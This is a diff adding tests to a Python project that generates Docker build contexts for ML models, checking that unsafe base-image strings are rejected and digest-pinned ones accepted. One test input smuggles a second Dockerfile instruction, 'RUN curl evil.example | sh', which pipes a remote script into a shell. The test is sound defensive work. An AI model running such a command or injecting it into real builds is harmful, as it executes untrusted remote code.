@@ -22,12 +22,13 @@ from sklearn.linear_model import ElasticNet
 import greenbutton
 from greenbutton.config import Settings
 from greenbutton.controller.targets.docker import (
+    IMAGE_REFERENCE,
     BuildContext,
     docker_build,
     serve_argv,
     write_build_context,
 )
-from greenbutton.errors import NotReady
+from greenbutton.errors import InvalidInput, NotReady
 
 
 def regressor(estimator: Any) -> greenbutton.Model:
@@ -130,3 +131,18 @@ def test_context_installs_in_fresh_venv_and_serves(context: BuildContext, tmp_pa
         if server.stderr:
             server.stderr.close()
     assert os.path.isdir(context.path / "model")
+
+
+@pytest.mark.parametrize("base", ["python:3.11-slim\nRUN curl evil.example | sh",
+                                  "python:3.11-slim AS x", "", "Python:3.11"])
+def test_base_image_that_could_end_the_from_line_refused(base: str, tmp_path: Path) -> None:
+    settings = Settings(home=tmp_path / "gb", _env_file=None)  # type: ignore[call-arg]
+    with pytest.raises(InvalidInput):
+        write_build_context("models:/diabetes/1", tmp_path / "ctx", settings,
+                            base_image=base or " ")
+    assert not (tmp_path / "ctx").exists()
+
+
+def test_base_image_pinned_by_digest_accepted() -> None:
+    pinned = "docker.io/library/python:3.11-slim@sha256:" + "a" * 64
+    assert IMAGE_REFERENCE.fullmatch(pinned)
